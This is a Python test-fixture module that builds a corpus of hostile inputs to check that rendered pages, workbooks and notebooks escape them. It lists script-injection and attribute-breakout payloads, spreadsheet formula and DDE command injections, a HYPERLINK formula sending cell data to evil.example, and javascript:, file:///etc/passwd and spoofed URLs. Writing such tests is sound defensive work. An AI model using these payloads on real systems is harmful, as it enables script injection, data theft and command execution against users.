"""Texts that somebody could put into a label, an id or an address to harm whoever reads it.

Shared by the tests of everything that is shown: pages, pictures, workbooks, notebooks. A payload
that would run calls `alert`, or the name `pwned`, so that a browser can be asked whether it ran.
"""

from __future__ import annotations

from itertools import cycle
from pathlib import Path
from typing import TYPE_CHECKING

from pyoxigraph import Literal, NamedNode, Quad, RdfFormat, serialize

if TYPE_CHECKING:
    import scgraph

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>window.pwned=1</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</table></td><script>alert(1)</script>",
    "<r><t>alert</t></r>",
    "<r></t></si><c t='str'><f>1+1</f></c></r>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=a>",
    "<a href='javascript:alert(1)'>click</a>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<<b>>&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&nbsp;&bogus;&#0;",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onfocus=alert(1) autofocus",
    '" style="background:url(javascript:alert(1))',
    'x\' y="z" <w>',
    '\\"; alert(1); //',
    "\\'; alert(1); //",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "*/alert(1)/*",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "{=1+1}",
    "＝1+1",
    "'=1+1",
    '=DDE("cmd";"/C calc";"a")',
    "1e309",
    "0x10",
    "2026-11-24",
    "TRUE",
    "_x003D_1+1",
    "_x000D_",
)
CHARACTERS = (
    "a\x00b",
    "a\x01\x08\x0b\x0c\x1b[31m\x7fb",
    "a\x85b\u2028c\u2029d",
    "\ufeffa\ufffeb\uffff",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068a\u2069",
    "a\u200b\u200c\u200d\u2060b",
    "Z\u0351\u036b\u0343a\u0321\u034el\u033ag\u0347o",
    "総務省「データ連携」＆𠮷野家",
    "👩\u200d👩\u200d👧",
    "line\r\nline\rline\nline",
    "\ttab\t",
    "  spaces  ",
    "",
    "x" * 40_000,
    "長" * 33_000,
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "external:\\\\evil.example\\share\\a.xlsx",
    "internal:'Claims'!A1",
    "//evil.example/",
    "https://good.example@evil.example/",
    'https://good.example/" onclick="alert(1)',
    "https://good.example/\u202egnp",
    "https://good.example/<script>",
    "http://",
    'https://good.example/#"><script>alert(1)</script>',
    "https://good.example/" + "a" * 3_000,
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *FORMULAS, *CHARACTERS, *ADDRESSES)
"""All of them."""

IRIS = tuple(
    text
    for text in (
        "javascript:alert(1)",
        "data:text/html,alert(1)",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "external:a.xlsx",
        "internal:Claims!A1",
        "https://good.example@evil.example/",
        "https://good.example/'onclick='alert(1)",
        "https://good.example/?a=1&amp;b=2&lt;",
        "https://good.example/%3Cscript%3E",
        "https://good.example/#" + "a" * 3_000,
        "https://good.example/\u202egnp",
    )
)
"""Addresses that RDF takes for IRIs."""

LANGUAGE_TAGS = ("en", "ja", "en-x-onclick", "x-script", "de-DE-1996-x-alert1")

_VOCABULARY = ("https://w3id.org/scgraph/vocab", "https://w3id.org/scgraph/code/")
_KEPT = ("locator", "position", "number", "date", "asOf", "versionInfo")
_ADDRESS = "https://schema.org/url"


def hostile_corpus(kg: scgraph.KnowledgeGraph, folder: Path) -> Path:
    """Write the shipped corpus with a payload in every text, and hostile addresses, as one file.

    What the vocabulary and the code lists say stays, and so do places and days: all else that
    somebody wrote is replaced, each text by another payload in turn.
    """
    texts, tags = cycle(PAYLOADS), cycle(LANGUAGE_TAGS)
    addresses, links = cycle(IRIS), cycle((*ADDRESSES, *PAYLOADS))
    taken: set[tuple[str, str, str]] = set()
    quads = []
    for quad in kg.quads:
        subject, predicate, value = quad.subject.value, quad.predicate.value, quad.object
        if subject.startswith(_VOCABULARY) or predicate.endswith(_KEPT):
            pass
        elif predicate == _ADDRESS and isinstance(value, NamedNode):
            value = NamedNode(next(addresses))
        elif predicate == _ADDRESS:
            value = Literal(next(links), datatype=value.datatype)
        elif isinstance(value, Literal) and value.datatype.value.endswith(
            ("#string", "#langString")
        ):
            text = next(texts)
            # English stays English, or nothing would bear a name.
            tag = value.language if value.language == "en" else value.language and next(tags)
            if (subject, predicate, tag or "") not in taken:
                value = Literal(text, language=tag) if tag else Literal(text)
            taken.add((subject, predicate, tag or ""))
        quads.append(Quad(quad.subject, quad.predicate, value, quad.graph_name))
    path = folder / "hostile.nq"
    path.write_bytes(serialize(quads, format=RdfFormat.N_QUADS) or b"")
    return path
